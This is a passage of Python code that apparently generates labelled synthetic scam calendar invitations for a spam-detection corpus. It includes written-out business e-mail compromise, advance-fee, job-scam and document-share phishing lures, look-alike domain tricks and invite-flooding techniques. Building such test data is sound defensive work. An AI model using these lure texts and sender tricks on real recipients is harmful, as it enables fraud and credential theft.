        return n.replace('m', 'rn', 1) + '.' + t
    if v == 1:
        return n.replace('-', '') + '.' + t
    if v == 2 and 'l' in n:
        return n.replace('l', 'I', 1).lower().replace('i', '1', 1) + '.' + t
    return n + '-group.' + t


def bec(ctx):
    rc = ctx.recipient()
    comp, cdom = ctx.choice(COMPANIES)
    boss, bfirst, bloc = ctx.person()
    if ctx.lang != 'en':
        summ, body = fill(ctx, 'bec', n=rc[1], s=bfirst)
        t = 0
    else:
        t = ctx.r.randrange(5)
        if t == 0:
            summ, body = 'Quick favour', 'Hi %s, are you at your desk? I need you to get some Apple gift cards for a client appreciation today, 5 x $200. I am in meetings all day so email only. I will reimburse you.\n\n%s\nSent from my iPhone' % (rc[1], bfirst)
        elif t == 1:
            iban = 'GB%02d %s %04d %04d %04d %02d' % (0, ctx.choice(['BARC', 'LOYD', 'NWBK', 'MIDL']), ctx.r.randrange(10000), ctx.r.randrange(10000), ctx.r.randrange(10000), ctx.r.randrange(100))
            summ, body = 'Update of remittance details – %s' % comp, ('Dear Accounts Payable,\n\nPlease be informed that our bank account has changed due to an ongoing audit. '
                                                                    'All outstanding invoices should be paid to the new account below from today:\n\nBank: Metro Trust\nIBAN: %s\nSWIFT: MTRTGB2L\n\n'
                                                                    'Kindly confirm once updated. A call is scheduled to go through the open invoices.\n\nRegards,\n%s\nCredit Control, %s') % (iban, boss, comp)
        elif t == 2:
            summ, body = 'Direct deposit change', 'Hello, I changed my bank and want my next paycheck deposited to the new account. Can you let me know what you need from me before the next payroll?\nThanks\n%s' % boss
        elif t == 3:
            summ, body = 'Confidential – acquisition', '%s, I am working on a confidential acquisition and need your assistance with a wire transfer today. Our lawyer will contact you. Please keep this between us.\n%s' % (rc[1], boss)
        else:
            summ, body = 'Call', 'Are you available for a short call? Reply with your mobile number.\n%s' % bfirst
    ev = std_event(ctx, summ, body, days=(0, 1), dur=15, hours=(8, 17))
    kind = ctx.choice(['free', 'lookalike', 'compromised', 'compromised'] if t == 1 else ['free', 'free', 'lookalike', 'compromised'])
    if kind == 'free':
        loc = bloc.replace('.', '') + ctx.choice(['.ceo', '.office', '', '.private']) + str(ctx.r.randrange(1, 99))
        a = '%s@%s' % (loc, ctx.choice(['gmail.com', 'outlook.com', 'gmail.com']))
        client = 'google' if a.endswith('gmail.com') else 'outlook'
        subj = google_subject(ev, rc[2]) if client == 'google' else summ
        return simple_send(ctx, boss, a, client, None, subj, ev, invite_text(ctx, ev, body), rc, reply_to=(boss, a)), 'BEC from free mail impersonating a manager'
    if kind == 'lookalike':
        d = lookalike(ctx, cdom)
        a = '%s@%s' % (bloc, d)
        setup = setup_for(ctx, 'outlook', a, 'outlook')
        return simple_send(ctx, boss, a, 'outlook', None, summ, ev, invite_text(ctx, ev, body), rc, setup=setup), 'BEC from a look-alike domain (%s for %s) with its own DKIM' % (d, cdom)
    a = '%s@%s' % (bloc, cdom)
    client = ctx.choice(['outlook', 'outlook', 'zimbra', 'thunderbird'])
    setup = setup_for(ctx, client, a, 'outlook' if client == 'outlook' else 'own')
    return simple_send(ctx, boss, a, client, None, summ, ev, invite_text(ctx, ev, body), rc, setup=setup), 'BEC from a really compromised supplier mailbox that passes authentication'


def advance_fee(ctx):
    rc = ctx.recipient()
    t = ctx.r.randrange(4)
    who = ctx.choice(['Barrister James Eze', 'Mrs. Grace Williams', 'Dr. Ahmed Musa', 'UN Compensation Unit', 'Mr. David Mark'])
    if t == 0:
        summ, body = 'Cancelled: Compensation Fund', 'Attention Beneficiary,\nYour compensation fund of $4,500,000.00 has been approved. Contact the paying bank with your full name, address and phone number. Reply to: %s' % 'claims.unit%d@gmail.com' % ctx.r.randrange(10, 99)
    elif t == 1:
        summ, body = 'Inheritance Claim', 'Dear friend, I am %s. I have a deceased client with the same surname as you who left $8.5M. I need your consent to present you as next of kin. Reply for details.' % who
    elif t == 2:
        summ, body = 'ATM CARD DELIVERY', 'your ATM card worth $2.5 million is ready for delivery, pay only $185 for shipping. contact diplomat agent now'
    else:
        summ, body = 'Business proposal', 'Good day. I got your contact through a trusted source. I need a reliable partner to receive funds for investment in your country. 30% is yours. Reply with your private phone number.'
    if t == 0 or ctx.r.random() < 0.5:
        # Yahoo 2017-18 style: CANCEL inside a method=REQUEST part, SENT-BY freemail, many attendees, absurd SEQUENCE
        name, a, client, k = free_sender(ctx, 'en', 'yahoo')
        others = [('', '%s%d@%s' % (ctx.choice(['info', 'admin', 'sales', 'john', 'mary', 'office']), ctx.r.randrange(1, 999), ctx.choice(['yahoo.com', 'example.net', 'example.org', 'aol.com', 'hotmail.com']))) for _ in range(39)]
        ev = std_event(ctx, summ, body, days=(0, 0), dur=60, method='CANCEL', status='CANCELLED', seq=ctx.r.randrange(45, 2296),
                       sent_by='%s@%s' % (ctx.alnum(8).lower(), ctx.choice(['gmail.com', 'outlook.com'])), alarms=['-PT30M'])
        return simple_send(ctx, who, a, 'yahoo', 'yahoo', 'Cancelled: ' + summ if not summ.startswith('Cancelled') else summ, ev,
                           invite_text(ctx, ev, body), rc, others, ctype_method='REQUEST', undisclosed=False), 'advance-fee 419, Yahoo CANCEL inside method=REQUEST, 40 attendees'
    name, a, client, k = free_sender(ctx, 'en', ctx.choice(['google', 'outlook']))
    ev = std_event(ctx, summ, body, days=(0, 3), dur=30)
    subj = google_subject(ev, rc[2]) if client == 'google' else summ
    return simple_send(ctx, who, a, client, k, subj, ev, invite_text(ctx, ev, body), rc), 'advance-fee 419 from free mail'


def task_job(ctx):
    rc = ctx.recipient()
    ph = ctx.phone('en', 'us')
    tg = 'https://t.me/%s' % ctx.choice(['hr_', 'recruiter_', 'agent_']) + ctx.alnum(6).lower()
    wa = 'https://wa.me/1%s555%04d' % (ctx.choice(['202', '312', '646']), ctx.r.randrange(100, 200))
    if ctx.lang != 'en':
        summ, body = fill(ctx, 'job', ph=ctx.phone(ctx.lang), u=ctx.choice([tg, wa]))
    else:
        t = ctx.r.randrange(4)
        if t == 0:
            summ, body = 'Interview invitation – Remote Data Optimizer', 'Hello, your resume was recommended by an online recruitment platform. Part-time, 60-90 min per day, $300-$900 daily. Please add our HR manager on WhatsApp to start: %s' % wa
        elif t == 1:
            summ, body = 'Amazon product reviewer – paid daily', 'Earn $50 per task rating products from home. Contact our coordinator on Telegram %s' % tg
        elif t == 2:
            summ, body = 'Job offer', 'hi,we are hiring for online job,flexible time,salary daily.contact me on whatsapp %s' % ph
        else:
            summ, body = 'Onboarding call – Digital Marketing Assistant', 'Congratulations, you passed the screening. Your trainer will explain the task system. Please download Telegram and message %s before the call.' % tg
    ev = std_event(ctx, summ, body, days=(0, 3), dur=30)
    if ctx.r.random() < 0.4:
        ev['conference'] = ctx.choice([tg, wa])
        ev['conference_label'] = 'Chat'
    kind = ctx.choice(['free', 'free', 'trial'])
    if kind == 'free':
        name, a, client, k = free_sender(ctx)
        subj = google_subject(ev, rc[2]) if client == 'google' else summ
        return simple_send(ctx, name, a, client, k, subj, ev, invite_text(ctx, ev, body), rc), 'task/job scam moving the victim to a messenger'
    a = 'hr@%s%d.onmicrosoft.com' % (ctx.choice(['talentbridge', 'globalrecruit', 'staffingpro']), ctx.r.randrange(10, 999))
    return simple_send(ctx, 'HR Department', a, 'outlook', 'outlook', summ, ev, invite_text(ctx, ev, body), rc), 'task/job scam from a trial Microsoft 365 tenant'


def doc_share(ctx):
    rc = ctx.recipient()
    comp, cdom = ctx.choice(COMPANIES)
    nm, first, loc = ctx.person('en')
    a = '%s@%s' % (loc, cdom)
    doc = ctx.choice(['Remittance Advice %d.pdf' % ctx.r.randrange(1000, 9999), 'RFQ_%d-%03d.pdf' % (ctx.arrival.year, ctx.r.randrange(1, 300)),
                      'Signed Contract – %s.docx' % comp, 'Statement of Account.xlsx', 'Project Proposal.pdf', 'Payment Confirmation.pdf'])
    t = ctx.r.randrange(4)
    tenant = comp.lower().replace(' ', '')
    if t == 0:
        url = 'https://%s-my.sharepoint.com/:o:/g/personal/%s_%s/E%s?e=%s' % (tenant, loc.replace('.', '_'), cdom.replace('.', '_').replace('-', ''), ctx.alnum(40), ctx.alnum(6))
        how = 'OneNote on the compromised tenant\'s SharePoint'
    elif t == 1:
        url = lure_url(ctx, 'hosting', tenant[:6])
        how = 'public hosting'
    elif t == 2:
        url = 'https://www.dropbox.com/scl/fi/%s/%s?rlkey=%s&dl=0' % (ctx.alnum(20).lower(), doc.replace(' ', '%20'), ctx.alnum(25).lower())
        how = 'file share'
    else:
        url = lure_url(ctx, 'redir', tenant[:6])
        how = 'open redirector'
    summ = ctx.choice(['%s shared "%s" with you' % (nm, doc), 'Document review: %s' % doc, 'Please review – %s' % doc, '%s' % doc])
    body = ctx.choice(['Hi,\n\n%s has shared a file with you.\n\n%s\n\nOpen: %s\n\nThis link will only work for the direct recipients of this message.' % (nm, doc, url),
                       'Good morning,\nPlease find the document for your review and approval.\n%s\n\nKind regards,\n%s\n%s' % (url, nm, comp),
                       'Hello, attached is the %s as discussed. Let me know if you have any issues opening it.\n%s' % (doc, url)])
    ev = std_event(ctx, summ, body, days=(0, 2), dur=30, hours=(8, 17))
    if ctx.r.random() < 0.4:
        ev['attach'] = [url]
        ev['description'] = body.replace(url, '(see attachment)')
    client = ctx.choice(['outlook', 'outlook', 'outlook', 'google', 'zimbra', 'nextcloud', 'sogo'])
    kind = 'google' if client == 'google' else ('outlook' if client == 'outlook' else 'own')
    setup = setup_for(ctx, client, a, kind, mailfrom=a)
    return simple_send(ctx, nm, a, client, None, summ if client != 'google' else google_subject(ev, rc[2]), ev, invite_text(ctx, ev, ev['description']), rc, setup=setup), 'document-share lure from a compromised, authenticated partner mailbox (%s)' % how


def nagging(ctx):
    rc = ctx.recipient()
    url = lure_url(ctx, ctx.choice(['short', 'lookalike', 'hosting']), 'promo')
    key = ctx.choice(['invest', 'prize'])
    if ctx.lang != 'en':
        summ, body = fill(ctx, key, u=url, n=rc[1], a=ctx.amount(1, 5))
    else:
        summ, body = ctx.choice([('Daily reminder: claim your reward', 'Your reward is still waiting: %s' % url),
                                 ('BTC signal – act now', 'New signal every hour. Join: %s' % url)])
    ev = std_event(ctx, summ, body, days=(0, 1), dur=15)
    v = ctx.r.randrange(3)
    if v == 0:
        ev['rrule'] = ctx.choice(['FREQ=DAILY', 'FREQ=HOURLY', 'FREQ=MINUTELY;INTERVAL=30', 'FREQ=DAILY;COUNT=9999'])
        ev['alarms'] = ['-PT%dM' % m for m in range(0, 60, 5)]
        d = 'endless recurrence (%s) with %d alarms' % (ev['rrule'], len(ev['alarms']))
    elif v == 1:
        far = ev['start'].replace(year=ctx.choice([2099, 2100, 2199, 9999]))
        ev['start'], ev['end'] = far, far + dt.timedelta(minutes=15)
        ev['rrule'] = 'FREQ=WEEKLY'
        ev['alarms'] = ['-P%dD' % (365 * 70)] + ['-PT%dM' % m for m in (1, 2, 3, 5, 10)]
        d = 'far-future event with an alarm decades early'
    else:
        ev['rrule'] = 'FREQ=DAILY'
        ev['alarms'] = ['-PT%dM' % m for m in range(1, 31)]
        ev['seq'] = ctx.r.randrange(100, 999)
        ev['todo'] = ctx.r.random() < 0.5
        d = 'daily recurrence, 30 alarms'
    name, a, client, k = free_sender(ctx, None, ctx.choice(['google', 'outlook', 'yahoo']))
    subj = google_subject(ev, rc[2]) if client == 'google' else summ
    return simple_send(ctx, name, a, client, k, subj, ev, invite_text(ctx, ev, body), rc), 'nagging payload: ' + d


def mass_invite(ctx):
    rc = ctx.recipient()
    url = lure_url(ctx, None, 'deal')
    key = ctx.choice(['prize', 'invest', 'parcel'])
    if ctx.lang != 'en':
        summ, body = fill(ctx, key, u=url, a=ctx.amount(1, 5), c=ctx.code(10, True))
    else:
        summ, body = ctx.choice([('Exclusive offer for selected members', 'Only today: %s' % url), ('Free iPhone 16 winners list', 'Check if you are on the list: %s' % url)])
    n = ctx.r.randrange(60, 320)
    doms = ['example.net', 'example.org', 'gmail.com', 'yahoo.com', 'hotmail.com', 'icloud.com', 'aol.com', 'gmx.de', 'mail.ru', 'qq.com', 'naver.com']
    others = [('', '%s%s%d@%s' % (ctx.choice('abcdefghijklmnopqrstuvwxyz'), ctx.alnum(ctx.r.randrange(3, 8)).lower(), ctx.r.randrange(1, 9999), ctx.choice(doms))) for _ in range(n)]
    ev = std_event(ctx, summ, body, days=(0, 2), dur=60)
    name, a, client, k = free_sender(ctx, None, ctx.choice(['google', 'yahoo', 'outlook']))
    subj = google_subject(ev, rc[2]) if client == 'google' else summ
    return simple_send(ctx, name, a, client, k, subj, ev, invite_text(ctx, ev, body), rc, others, undisclosed=ctx.r.random() < 0.5), 'mass invitation to %d unrelated attendees' % (n + 1)


SPAM = [
    # name, count, function, language key (None: English only), share of non-English slots, years
    ('retail-sale', 10, retail_sale, None, 0.0, (2016, 2019)),
    ('prize-survey', 12, prize_survey, 'prize', 0.75, (2016, 2026)),
    ('crypto-invest', 12, crypto_invest, 'invest', 0.75, (2017, 2026)),
    ('dating-sextortion', 10, dating_sextortion, None, 0.0, (2017, 2026)),
    ('fee-scam', 14, fee_scam, 'parcel', 0.7, (2019, 2026)),
    ('phish-brand', 20, phish_brand, 'phish', 0.6, (2017, 2026)),
    ('callback', 14, callback, 'callback', 0.6, (2018, 2026)),
    ('fake-update', 8, fake_update, None, 0.0, (2020, 2026)),
    ('bec', 16, bec, 'bec', 0.65, (2017, 2026)),
    ('advance-fee', 10, advance_fee, None, 0.0, (2016, 2024)),
    ('task-job', 10, task_job, 'job', 0.8, (2021, 2026)),
    ('doc-share', 12, doc_share, None, 0.0, (2019, 2026)),
    ('nagging', 6, nagging, 'invest', 0.83, (2018, 2026)),
    ('mass-invite', 6, mass_invite, 'prize', 0.83, (2016, 2026)),
]

SPAM_DESC = {
    'retail-sale': 'Retail "sale" invitations in the style of the 2016 iCloud/Black Friday wave (fake brand outlets, prices in the title, many co-invitees).',
    'prize-survey': 'Prize, survey and gift-card lures; links to form services, public hosting, shorteners and redirectors; some payload only in X-ALT-DESC or only in the .ics.',
    'crypto-invest': 'Crypto and investment fraud (fake balances, "AI trading" account managers, giveaways), links in URL/CONFERENCE/LOCATION.',
    'dating-sextortion': 'Dating lures and sextortion (Bitcoin wallet, From forged as the recipient).',
    'fee-scam': 'Parcel, toll, tax-refund and fine fee scams impersonating postal services, toll operators and tax offices.',
    'phish-brand': 'Credential phishing impersonating Microsoft 365, DocuSign, PayPal, Adobe, banks and public services; spoofed, trial-tenant, look-alike and compromised senders.',
    'callback': 'Tech-support and renewal callback scams built around a phone number (often no link at all).',
    'fake-update': 'Fake software updates and "paste this command" (ClickFix) lures.',
    'bec': 'Business e-mail compromise: CEO fraud, gift cards, vendor bank-detail change, payroll diversion; from free mail, look-alike domains and really compromised supplier mailboxes.',
    'advance-fee': '419 advance-fee fraud, including the 2017-18 Yahoo pattern (CANCEL in a method=REQUEST part, SENT-BY free mail, 40 attendees, huge SEQUENCE).',
    'task-job': 'Task and job scams that move the victim to WhatsApp or Telegram.',
    'doc-share': 'Document-share lures sent from compromised, authenticated partner mailboxes.',
    'nagging': 'Nagging payloads: endless recurrence, dozens of alarms, far-future dates.',
    'mass-invite': 'Mass invitations with 60-320 unrelated attendees.',
}
